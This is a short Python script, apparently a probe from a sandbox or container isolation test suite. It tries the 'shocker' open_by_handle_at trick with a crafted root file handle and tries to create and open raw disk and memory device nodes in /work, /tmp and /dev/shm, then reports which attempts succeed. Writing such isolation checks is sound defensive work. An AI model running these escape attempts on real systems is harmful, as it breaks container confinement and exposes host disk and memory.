"""Files by handle, past all folders' rights ("shocker"), and devices of one's own."""

import contextlib
import os
import stat

from attack import X86_64, call, name, tell

made, why = [], set()
handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
folder = os.open("/", os.O_RDONLY)
error = call(304 if X86_64 else 265, folder, handle, os.O_RDONLY)
made += [] if error else ["root folder by handle"]
why.add(name(error))
for place in ("/work", "/tmp", "/dev/shm"):
    for kind, number in (("disk", os.makedev(8, 0)), ("memory", os.makedev(1, 1))):
        mode = stat.S_IFBLK if kind == "disk" else stat.S_IFCHR
        path = f"{place}/{kind}"
        try:
            os.mknod(path, mode | 0o666, number)
            made.append(path)
            with contextlib.suppress(OSError):
                os.close(os.open(path, os.O_RDONLY))
                made.append(f"{path} opened")
        except OSError as error:
            why.add(name(error.errno))
tell(made, f"made {made}, else {sorted(why)}")
